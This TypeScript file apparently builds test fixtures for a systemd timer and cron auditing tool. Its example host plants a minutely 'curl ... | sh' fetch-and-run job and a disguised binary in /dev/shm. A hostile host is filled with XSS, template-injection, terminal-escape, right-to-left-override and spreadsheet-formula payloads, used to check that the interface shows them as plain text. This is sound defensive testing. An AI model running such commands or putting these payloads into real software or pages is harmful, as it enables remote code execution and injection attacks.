/** Hosts for the browser tests: one with everything the pages show, and one whose every text is an attack. */
import { assess } from "../../src/controls/assess.ts";
import { subjectOf } from "../../src/controls/subject.ts";
import { openDirectory } from "../../src/hosts/directory.ts";
import { type MemoryEntry, memoryHost } from "../../src/hosts/memory.ts";
import { zonesOf } from "../../src/hosts/zoneinfo.ts";
import { readInventory } from "../../src/inventory/inventory.ts";
import { judge } from "../../src/rules/judge.ts";
import type { Snapshot } from "../../src/server/api.ts";
import { snapshotOf } from "../../src/server/snapshot.ts";

type Tree = Record<string, MemoryEntry>;

/** A Monday, an hour before a timer that runs at half past two. */
export const NOW = Date.UTC(2026, 9, 19, 4, 37, 12);
const WHEN = BigInt(NOW) * 1_000_000n;
const DAY = 86_400_000_000_000n;

function timer(name: string, timerText: string, service: string, more: Tree = {}): Tree {
  return {
    [`/etc/systemd/system/${name}.timer`]: {
      content: `[Unit]\nDescription=${name} of the example\n\n[Timer]\n${timerText}\n\n[Install]\nWantedBy=timers.target\n`,
      mtimeNs: WHEN - 3n * DAY,
      ctimeNs: WHEN - 2n * DAY,
    },
    [`/etc/systemd/system/${name}.service`]: {
      content: `[Service]\nType=oneshot\n${service}\n`,
      mtimeNs: WHEN - 3n * DAY,
      ctimeNs: WHEN - 2n * DAY,
    },
    [`/etc/systemd/system/timers.target.wants/${name}.timer`]: { link: `/etc/systemd/system/${name}.timer` },
    ...more,
  };
}

const BASE: Tree = {
  "/etc/hostname": "web-03\n",
  "/etc/tmpfiles.d/late.conf":
    "f+ /etc/systemd/system/late.service - - - - [Service]\\nExecStart=/usr/local/bin/late\n",
  "/etc/os-release": 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n',
  "/etc/machine-id": "0123456789abcdef0123456789abcdef\n",
  "/etc/localtime": { link: "/usr/share/zoneinfo/Europe/Berlin" },
  "/etc/passwd":
    "root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\n",
  "/etc/group": "root:x:0:\nwww-data:x:33:\nalice:x:1000:\n",
  "/usr/lib/systemd/systemd": { content: "", mode: 0o755 },
  "/usr/lib/systemd/system/timers.target": "[Unit]\nDescription=Timer Units\n",
  "/usr/lib/systemd/system/multi-user.target": "[Unit]\nWants=timers.target\n",
  "/usr/lib/systemd/system/default.target": { link: "multi-user.target" },
  "/bin/sh": { content: "", mode: 0o755 },
};

const EXAMPLE: Tree = {
  ...BASE,
  ...timer("backup", "OnCalendar=*:0/15", "ExecStart=/dev/shm/.x/kworkerd --quiet", {
    "/dev/shm/.x/kworkerd": { content: "#!/bin/sh\ntrue\n", mode: 0o755, uid: 1000, gid: 1000 },
  }),
  ...timer("sync", "OnCalendar=minutely", "ExecStart=/bin/sh -c 'curl -fsS http://192.0.2.7/u | sh'"),
  ...timer(
    "report",
    "OnCalendar=Mon..Fri 02:30 America/New_York\nPersistent=yes",
    "ExecStart=/usr/local/bin/report --all",
    {
      "/usr/local/bin/report": { content: "#!/bin/sh\nexec /usr/bin/true\n", mode: 0o755 },
      "/etc/systemd/system/report.service.d/10-user.conf":
        "[Service]\nUser=alice\nExecStart=\nExecStart=/usr/local/bin/report --less\n",
      "/var/lib/systemd/timers/stamp-report.timer": { content: "", mtimeNs: WHEN - DAY },
    },
  ),
  ...timer(
    "tidy",
    "OnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h",
    "ExecStart=/usr/bin/find /var/tmp -delete",
  ),
  ...timer("poll", "OnBootSec=5min\nOnUnitActiveSec=10min", "ExecStart=/usr/bin/true"),
  ...timer("odd", "OnCalendar=Mon 25:00", "ExecStart=/usr/bin/true"),
  "/etc/systemd/system/masked.timer": { link: "/dev/null" },
  "/etc/crontab": "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
  "/etc/cron.d/php": "*/30 * * * * www-data /usr/lib/php/sessionclean\n",
  "/var/spool/cron/crontabs": { dir: true },
  "/var/log/dpkg.log":
    "2026-10-17 10:00:00 upgrade apt:amd64 2.6.0 2.6.1\n2026-10-17 10:00:01 status installed apt:amd64 2.6.1\n",
  "/etc/shadow": { content: "", mode: 0o640, error: "EACCES" },
};

/** Escapes, markup, direction changes, spreadsheet formulas, script ends: text that must stay text. */
export const HOSTILE_TEXTS: readonly string[] = [
  "<img src=x onerror=window.pwned=1>",
  "</script><script>window.pwned=1</script>",
  "<svg/onload=window.pwned=1>",
  "javascript:window.pwned=1",
  "{{constructor.constructor('window.pwned=1')()}}",
  "\x1b[2J\x1b]0;owned\x07",
  "a\u202egnp.exe",
  "zero\u200bwidth",
  "=cmd|' /C calc'!A0",
  "<!--",
  '"><b>bold</b>',
  "&lt;i&gt;",
  "\u2028line\u2029",
];

const HOSTILE: Tree = {
  ...BASE,
  "/etc/hostname": "<b>h</b>\u202e\n",
  ...Object.assign(
    {},
    ...HOSTILE_TEXTS.map((text, at): Tree => {
      const line = text.replaceAll("%", "%%");
      return timer(
        `evil-${at}`,
        "OnCalendar=hourly",
        `ExecStart=/tmp/${line} "${line.replaceAll('"', "")}"`,
        {
          [`/etc/systemd/system/evil-${at}.timer.d/x.conf`]: `[Unit]\nDescription=${line}\n[Timer]\n${line}=1\n`,
          [`/etc/systemd/system/evil-${at}.service.d/<img src=x onerror=pwned=1>.conf`]:
            "[Service]\nUser=<b>u</b>\n",
        },
      );
    }),
  ),
  "/etc/cron.d/evil": `* * * * * root /tmp/x '${HOSTILE_TEXTS[0]}'\n`,
};

export function exampleSnapshot(): Snapshot {
  return snapshotOfTree(EXAMPLE, "root:/evidence/web-03");
}

export function hostileSnapshot(): Snapshot {
  return snapshotOfTree(HOSTILE, "root:/evidence/<b>");
}

/** Nothing but an operating system. */
export function emptySnapshot(): Snapshot {
  return snapshotOfTree(BASE, "root:/evidence/empty");
}

/** So many timers of every kind, for measurements. */
export function largeSnapshot(timers: number): Snapshot {
  const trees = Array.from({ length: timers }, (_, at) =>
    timer(
      `job-${String(at).padStart(5, "0")}`,
      at % 7 === 0
        ? "OnCalendar=*:0/10"
        : `OnCalendar=*-*-* ${at % 24}:${at % 60}\nRandomizedDelaySec=${at % 5}h`,
      at % 50 === 0 ? "ExecStart=/tmp/x" : `ExecStart=/usr/bin/job --number ${at}`,
    ),
  );
  return snapshotOfTree({ ...BASE, ...Object.assign({}, ...trees) }, "root:/evidence/large");
}

function snapshotOfTree(tree: Tree, target: string): Snapshot {
  const host = memoryHost(tree, { target, timeNs: WHEN - 40n * DAY });
  const zones = zonesOf(host, openDirectory("/", "host:", true), "Europe/Berlin");
  const inventory = readInventory(host, { zones, nowUsec: NOW * 1000 });
  return snapshotOf(inventory, judge(inventory), {
    target,
    scanned: new Date(NOW).toISOString(),
    assessment: assess(subjectOf(inventory)),
  });
}
